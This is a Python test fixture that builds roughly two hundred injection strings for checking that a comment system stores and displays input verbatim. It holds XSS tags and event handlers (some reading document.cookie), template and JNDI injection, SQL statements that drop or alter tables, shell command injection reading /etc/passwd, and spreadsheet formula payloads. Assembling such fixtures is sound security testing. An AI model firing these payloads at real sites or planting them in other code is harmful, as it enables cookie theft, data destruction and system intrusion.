"""Two hundred texts that try to be more than text: HTML, scripts, attributes, templates, encodings.

Every one must be stored and shown exactly as it is typed. Each calls `alert`, where it can call
anything, so that a browser test has one thing to look for.
"""

_TAGS = (
    "<script>{0}</script>", "<SCRIPT>{0}</SCRIPT>", "<scr<script>ipt>{0}</script>",
    "<script src=//example.invalid/x.js></script>", "<script type=module>{0}</script>",
    "<img src=x onerror={0}>", "<img src=x onerror='{0}'>", '<img src="x" onerror="{0}">',
    "<IMG SRC=javascript:{0}>", "<img/src=x/onerror={0}>", "<svg onload={0}>", "<svg/onload={0}>",
    "<svg><script>{0}</script></svg>", "<svg><animate onbegin={0} attributeName=x>",
    "<math><mi xlink:href='javascript:{0}'>x</mi></math>", "<body onload={0}>",
    "<iframe src=javascript:{0}>", "<iframe srcdoc='<script>{0}</script>'>", "<object data=javascript:{0}>",
    "<embed src=javascript:{0}>", "<video><source onerror={0}>", "<audio src=x onerror={0}>",
    "<details open ontoggle={0}>x</details>", "<input autofocus onfocus={0}>", "<select onfocus={0} autofocus>",
    "<textarea onfocus={0} autofocus>", "<keygen onfocus={0} autofocus>", "<marquee onstart={0}>x</marquee>",
    "<a href=javascript:{0}>x</a>", "<a href='java\tscript:{0}'>x</a>", "<a href=\"data:text/html,<script>{0}</script>\">x</a>",
    "<form action=javascript:{0}><button>x", "<button formaction=javascript:{0}>x", "<isindex action=javascript:{0}>",
    "<base href=javascript:{0}//>", "<link rel=stylesheet href=javascript:{0}>", "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<style>@import 'javascript:{0}'</style>", "<div style=\"background:url(javascript:{0})\">x", "<div onmouseover={0} style=position:fixed;inset:0>x",
    "<table background=javascript:{0}>", "<template><script>{0}</script></template>", "<noscript><p title=\"</noscript><img src=x onerror={0}>\">",
    "<!--><script>{0}</script>-->", "<![CDATA[<script>{0}</script>]]>", "<?xml version='1.0'?><script>{0}</script>",
    "<xmp><script>{0}</script></xmp>", "<plaintext>{0}", "<title><script>{0}</script></title>", "</title><script>{0}</script>",
    "</textarea><script>{0}</script>", "</li></ol><script>{0}</script>", "</span><img src=x onerror={0}>", "</hx-partial><script>{0}</script>",
    "<li id=c-1 data-number=1 data-change=999>{0}</li>", "<li id=c-1 hidden></li>{0}", "<hx-partial hx-target=body hx-swap=innerHTML>{0}</hx-partial>",
    "<hx-partial hx-target='#comments' hx-swap='innerHTML' data-cursor='00000000-9'></hx-partial>{0}",
    "<div hx-get=/admin/ hx-trigger=load>{0}</div>", "<div hx-on:load={0}>x</div>", "<div data-cursor='00000000-99'>{0}</div>",
    "<p data-ack=x>{0}</p>", "<p data-refused=x data-code=banned>{0}</p>",
)  # fmt: skip
_PLAIN = (
    "\"><script>{0}</script>", "'><script>{0}</script>", "\" onmouseover=\"{0}", "' onmouseover='{0}", "` onmouseover=`{0}",
    "\" autofocus onfocus={0} x=\"", "';{0};//", "\";{0};//", "</script><script>{0}</script>", "\\\";{0};//", "${{{0}}}", "`${{{0}}}`",
    "{{{{{0}}}}}", "{{% include 'admin/base.html' %}}{0}", "{{{{ settings.SECRET_KEY }}}}{0}", "{{{{request.session.session_key}}}}{0}",
    "{{# {0} #}}", "#{{{0}}}", "<%= {0} %>", "${{jndi:ldap://example.invalid/{0}}}", "%3Cscript%3E{0}%3C/script%3E", "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;script&#62;{0}&#60;/script&#62;", "&#x3c;script&#x3e;{0}", "&amp;lt;script&amp;gt;{0}", "\\u003cscript\\u003e{0}", "\\x3cscript\\x3e{0}",
    "＜script＞{0}＜/script＞", "‹script›{0}", "+ADw-script+AD4-{0}", "javascript:{0}", "JaVaScRiPt:{0}", "data:text/html,<script>{0}</script>",
    "vbscript:{0}", "https://example.com/\"onmouseover=\"{0}", "https://example.com/'><script>{0}</script>", "https://example.com/<script>{0}</script>",
    "http://[{0}", "https://javascript:{0}@example.com/", "https://example.com/?q=<svg/onload={0}>", "www.example.com\"onclick={0}",
    "[x](javascript:{0})", "<javascript:{0}>", "![x](x\"onerror=\"{0})", "'; DROP TABLE comments_comment; -- {0}", "' OR 1=1 -- {0}",
    "1; UPDATE comments_stream SET head = 0; {0}", "{{\"action\": \"remove\", \"number\": 1}} {0}", "]}}{{\"action\":\"x\"}}{0}", "\\n\\r\\0{0}", "%00{0}",
    "%0d%0aSet-Cookie: a=b {0}", "../../../etc/passwd {0}", "$(touch /tmp/x) {0}", "`id` {0}", "| cat /etc/passwd {0}", "() {{ :; }}; {0}",
    "=HYPERLINK(\"http://example.invalid\",\"{0}\")", "@SUM(1+1)*cmd|' /C calc'!A0 {0}", "%s%s%s%n {0}", "%(body)s {0}", "{{0}} {0}", "{{}} {0}",
    "NULL {0}", "undefined {0}", "true {0}", "NaN {0}", "-1 {0}", "0x7fffffff {0}", "a\u0335\u0336\u0337b {0}", "ʇxǝʇ {0}", "\u200f{0}\u200e", "Ω≈ç√∫˜µ≤≥÷ {0}",
    "田中さんにあげて下さい {0}", "הָיְתָה {0}", "‏test‏ {0}", "👾 🙇 💁 🙅 {0}", "⁰⁴⁵₀₁₂ {0}", "ﬃ {0}", "İ ı ß ẞ {0}", "\ufeff{0}", "a\u2028{0}", "a\u2029{0}",
)  # fmt: skip
_CALLS = ("alert(1)", "alert`1`", "top['alert'](1)")

TEXTS: tuple[str, ...] = tuple(
    pattern.format(_CALLS[index % len(_CALLS)]) for index, pattern in enumerate(_TAGS + _PLAIN)
) + tuple(pattern.format("window.alert(document.cookie)") for pattern in _TAGS[:60])
